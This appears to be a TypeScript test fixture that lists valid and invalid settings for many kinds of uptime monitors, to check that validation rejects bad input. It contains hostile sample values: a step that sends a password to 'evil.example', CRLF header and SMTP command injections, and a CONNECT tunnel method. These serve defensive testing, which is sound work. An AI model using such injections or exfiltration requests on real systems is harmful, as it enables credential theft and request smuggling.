/**
 * Of every kind of monitor: settings that it takes, and settings that cannot work, each with the field that is wrong.
 * A kind that is not here makes the tests fail that go through all.
 */

type Settings = Readonly<Record<string, unknown>>

export interface Sample {
  readonly settings: Settings
  /** Values for its secrets. */
  readonly secrets: Settings
  /** The same secrets would go to somebody else with these. */
  readonly elsewhere: ReadonlyArray<Settings>
  /** What is wrong, the settings on top of the valid ones, and the path of the field within the settings. */
  readonly impossible: ReadonlyArray<readonly [what: string, settings: Settings, path: string]>
}

/** Nobody else has such texts: what they are looked for in must not hold them. */
const secret = (name: string): string => `planted-${name}-7Kq2`

const certificate = "-----BEGIN CERTIFICATE-----\nMAMCAQE=\n-----END CERTIFICATE-----"
const privateKey = "-----BEGIN PRIVATE KEY-----\nMAMCAQI=\n-----END PRIVATE KEY-----"

const assertion = (fields: Settings) => ({
  assertions: [{ source: "total_ms", operator: "less_than", expected: 1, ...fields }]
})
const assertions: Sample["impossible"] = [
  ["an unknown source", assertion({ source: "mood" }), "assertions.0.source"],
  ["an operator of texts for a time", assertion({ operator: "matches" }), "assertions.0.operator"],
  [
    "no value to compare with",
    { assertions: [{ source: "total_ms", operator: "less_than" }] },
    "assertions.0.expected"
  ],
  ["an unknown severity", assertion({ severity: "meh" }), "assertions.0.severity"],
  ["too many assertions", { assertions: Array(21).fill(assertion({}).assertions[0]) }, "assertions"]
]
const bodyAssertions: Sample["impossible"] = [
  ["a broken pattern", assertion({ source: "body", operator: "matches", expected: "(" }), "assertions.0.expected"],
  [
    "a pattern that looks back",
    assertion({ source: "body", operator: "matches", expected: String.raw`(a)\1` }),
    "assertions.0.expected"
  ]
]
const jsonAssertions: Sample["impossible"] = [
  [
    "a JSON path that does not parse",
    assertion({ source: "json", property: "$.[", operator: "exists", expected: undefined }),
    "assertions.0.property"
  ],
  ["a JSON assertion without a path", assertion({ source: "json" }), "assertions.0.property"]
]
const hosts: Sample["impossible"] = [
  ["no host", { host: "" }, "host"],
  ["a URL for a host", { host: "https://db.example/" }, "host"],
  ["a host with a port", { host: "db.example:1" }, "host"],
  ["a host with a line break", { host: "db.example\r\nX" }, "host"],
  ["port 0", { port: 0 }, "port"],
  ["port 65536", { port: 65_536 }, "port"],
  ["half a port", { port: 1.5 }, "port"],
  ["a port as text", { port: "80" }, "port"]
]
const pem: Sample["impossible"] = [
  ["garbage for a certificate", { ca: "garbage" }, "ca"],
  ["a damaged certificate", { ca: certificate.replace("MAMC", "MAQC") }, "ca"],
  ["a key for a certificate", { ca: privateKey }, "ca"]
]
const identity: Sample["impossible"] = [
  ["a certificate without its key", { clientCertificate: certificate }, "clientKey"],
  ["a key without its certificate", { clientKey: privateKey }, "clientCertificate"],
  ["garbage for a key", { clientCertificate: certificate, clientKey: "garbage" }, "clientKey"]
]
const otherHosts: Sample["elsewhere"] = [{ host: "evil.example" }, { port: 4_444 }]

const database: Sample = {
  settings: { host: "db.example", user: "watcher" },
  secrets: { password: secret("password") },
  elsewhere: otherHosts,
  impossible: [
    ...hosts,
    ...pem,
    ...assertions,
    ["no user", { user: "" }, "user"],
    ["no query", { query: "  " }, "query"],
    ["an unknown encryption", { encryption: "rot13" }, "encryption"]
  ]
}

export const samples: Readonly<Record<string, Sample>> = {
  http: {
    settings: { url: "https://shop.example/health", auth: "basic", username: "watcher" },
    secrets: { password: secret("password"), token: secret("token") },
    elsewhere: [
      { url: "https://evil.example/health" },
      { url: "https://shop.example:8443/health" },
      { url: "http://shop.example/health" }
    ],
    impossible: [
      ...pem,
      ...identity,
      ...assertions,
      ...bodyAssertions,
      ...jsonAssertions,
      ["no URL at all", { url: "nowhere" }, "url"],
      ["another scheme", { url: "ftp://shop.example/" }, "url"],
      ["credentials in the URL", { url: "https://me:pass@shop.example/" }, "url"],
      ["a URL without a host", { url: "https://" }, "url"],
      ["a port beyond all", { url: "https://shop.example:99999/" }, "url"],
      ["a URL that is too long", { url: `https://shop.example/${"x".repeat(2048)}` }, "url"],
      ["a header with a line break", { headers: { "x-a": "1\r\nHost: evil" } }, "headers"],
      ["a header that is none", { headers: { "x a": "1" } }, "headers"],
      ["a header of ours", { headers: { "Content-Length": "1" } }, "headers"],
      ["a method that is none", { method: "GET /" }, "method"],
      ["a tunnel", { method: "CONNECT" }, "method"],
      ["a status that is none", { expectedStatus: "99" }, "expectedStatus"],
      ["a range that goes down", { expectedStatus: "299-200" }, "expectedStatus"],
      ["a user with a colon", { username: "a:b" }, "username"],
      ["no user", { username: null }, "username"],
      ["no token", { auth: "bearer" }, "token"],
      ["two authorizations", { headers: { authorization: "x" } }, "headers"],
      ["a third IP version", { ipVersion: "5" }, "ipVersion"]
    ]
  },
  steps: {
    settings: {
      steps: [{ name: "Log in", url: "https://shop.example/login", method: "POST", body: "password={{password}}" }]
    },
    secrets: { variables: { password: secret("variable") } },
    elsewhere: [
      { steps: [{ name: "Log in", url: "https://evil.example/login" }] },
      {
        steps: [
          { name: "Log in", url: "https://shop.example/login" },
          { name: "Tell", url: "https://evil.example/?p={{password}}" }
        ]
      }
    ],
    impossible: [
      ...pem,
      ...identity,
      ["no steps", { steps: [] }, "steps"],
      ["a step without a name", { steps: [{ name: "", url: "https://a.example/" }] }, "steps.0.name"],
      ["a host that is not said", { steps: [{ name: "a", url: "https://{{password}}.example/" }] }, "steps.0.url"],
      ["a name that nobody knows", { steps: [{ name: "a", url: "https://a.example/{{b}}" }] }, "steps.0.url"],
      [
        "a path that does not parse",
        {
          steps: [{ name: "a", url: "https://a.example/", extract: [{ name: "x", from: "json", property: "$.[" }] }]
        },
        "steps.0.extract.0.property"
      ]
    ]
  },
  dns: {
    settings: { name: "shop.example" },
    secrets: {},
    elsewhere: [],
    impossible: [
      ...assertions,
      ["no name", { name: "" }, "name"],
      ["a URL for a name", { name: "https://shop.example" }, "name"],
      ["an address for a name", { name: "192.0.2.1" }, "name"],
      ["a label that is too long", { name: `${"x".repeat(64)}.example` }, "name"],
      ["records that nobody has", { recordType: "ANY" }, "recordType"],
      ["a resolver that is none", { resolver: "9.9.9.9:0" }, "resolver"],
      ["an empty record", { expected: [""] }, "expected.0"]
    ]
  },
  heartbeat: {
    settings: { cron: "0 3 * * *" },
    secrets: {},
    elsewhere: [],
    impossible: [
      ["a cron line that never fires", { cron: "0 0 30 2 *" }, "cron"],
      ["a cron line that is none", { cron: "now and then" }, "cron"],
      ["neither period nor cron line", { cron: null }, "periodSeconds"],
      ["both", { periodSeconds: 60 }, "cron"],
      ["a period that is too short", { cron: null, periodSeconds: 1 }, "periodSeconds"],
      ["a time zone that there is not", { timeZone: "Mars/Olympus" }, "timeZone"],
      ["no grace", { graceSeconds: 0 }, "graceSeconds"]
    ]
  },
  tcp: {
    settings: { host: "db.example", port: 5432 },
    secrets: {},
    elsewhere: [],
    impossible: [
      ...hosts,
      ...pem,
      ...assertions,
      ...bodyAssertions,
      ["an escape that is none", { send: String.raw`\q` }, "send"],
      ["another one", { expect: String.raw`\xZZ` }, "expect"],
      ["an unknown encryption", { security: "rot13" }, "security"]
    ]
  },
  tls: {
    settings: { host: "shop.example" },
    secrets: {},
    elsewhere: [],
    impossible: [
      ...hosts,
      ...pem,
      ...assertions,
      ["days before today", { warnDays: -1 }, "warnDays"],
      ["a version that nobody speaks", { minimumVersion: "SSLv3" }, "minimumVersion"]
    ]
  },
  smtp: {
    settings: { host: "mail.example", security: "tls", username: "watcher" },
    secrets: { password: secret("password") },
    elsewhere: otherHosts,
    impossible: [
      ...hosts,
      ...pem,
      ...assertions,
      ["a login that all can read", { security: "none" }, "security"],
      ["a sender with a line break", { sender: "a@b.example\r\nRCPT TO:<x>" }, "sender"],
      ["a name with a line break", { clientName: "a\r\nb" }, "clientName"]
    ]
  },
  redis: {
    settings: { host: "cache.example" },
    secrets: { password: secret("password") },
    elsewhere: otherHosts,
    impossible: [...hosts, ...pem, ...assertions, ...jsonAssertions, ["database -1", { database: -1 }, "database"]]
  },
  udp: {
    settings: { host: "game.example", port: 27_015 },
    secrets: {},
    elsewhere: [],
    impossible: [
      ...hosts,
      ...assertions,
      ["half a byte", { format: "hex", payload: "1b0" }, "payload"],
      ["an escape that is none", { payload: String.raw`\q` }, "payload"]
    ]
  },
  postgres: database,
  mysql: database,
  ping: {
    settings: { host: "shop.example" },
    secrets: {},
    elsewhere: [],
    impossible: [
      ...hosts.filter(([, , path]) => path === "host"),
      ...assertions,
      ["no packets", { packets: 0 }, "packets"],
      ["more than all lost", { downLoss: 101 }, "downLoss"],
      ["a packet of nothing", { sizeBytes: 0 }, "sizeBytes"]
    ]
  },
  websocket: {
    settings: { url: "wss://shop.example/live", auth: "basic", username: "watcher" },
    secrets: { password: secret("password"), token: secret("token") },
    elsewhere: [{ url: "wss://evil.example/live" }, { url: "ws://shop.example/live" }],
    impossible: [
      ...pem,
      ...identity,
      ...assertions,
      ...bodyAssertions,
      ...jsonAssertions,
      ["a header of the protocol", { headers: { "Sec-WebSocket-Key": "x" } }, "headers"],
      ["a subprotocol that is none", { subprotocol: "a b" }, "subprotocol"],
      ["no URL at all", { url: "nowhere" }, "url"],
      ["another scheme", { url: "https://shop.example/" }, "url"],
      ["a header with a line break", { headers: { "x-a": "1\r\nHost: evil" } }, "headers"]
    ]
  },
  grpc: {
    settings: { host: "api.example", port: 443 },
    secrets: { token: secret("token"), metadata: { "x-api-key": secret("metadata") } },
    elsewhere: otherHosts,
    impossible: [
      ...hosts,
      ...pem,
      ...identity,
      ...assertions,
      ["metadata with a line break", { metadata: { "x-a": "1\r\nb" } }, "metadata"],
      ["a token with a blank", { token: "a b" }, "token"]
    ]
  }
}
